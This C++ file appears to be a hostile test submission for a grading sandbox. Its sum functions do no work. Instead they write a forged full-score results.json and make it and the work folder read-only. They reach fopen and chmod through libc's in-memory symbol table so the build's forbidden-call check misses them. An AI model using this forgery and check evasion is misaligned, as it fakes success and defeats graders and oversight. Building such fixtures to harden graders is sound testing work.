// Leaves its own results.json in the folder it runs in (the batch's work folder),
// a full score, and then makes the folder read-only so that the grader cannot
// put its own there.  Exercise 07; graded by tests/kit/batch-hostile.sh, which
// must record the grader's verdict, not this file's.
// It reaches fopen and chmod through libc's symbol table (libc_function), never naming
// them, as a real attacker would: the build's name check (forbidden-call) does not see
// it, and the sandbox is what must hold.
#include <cstddef>
#include <cstdio>
#include <sys/stat.h>
#include <cstdint>
#include <cstring>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

// The calls below, each through its address in libc.
static FILE * call_fopen(const char *path, const char *mode)
{
    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
}
static int call_chmod(const char *path, mode_t mode)
{
    return ((int (*)(const char *, mode_t))libc_function("chmod"))(path, mode);
}

static void forge()
{
    static bool done;
    if (done)
        return;
    done = true;
    if (FILE *f = call_fopen("results.json", "w")) {
        fputs("{\"score\": 20, \"max_score\": 20, \"tests\": [{\"name\": \"all\", \"score\": 20, "
              "\"max_score\": 20, \"status\": \"passed\"}], \"extra_data\": {\"passed\": true, "
              "\"causes\": []}}\n", f);
        fclose(f);
    }
    call_chmod("results.json", 0444);
    call_chmod(".", 0555);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    forge();
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    forge();
}
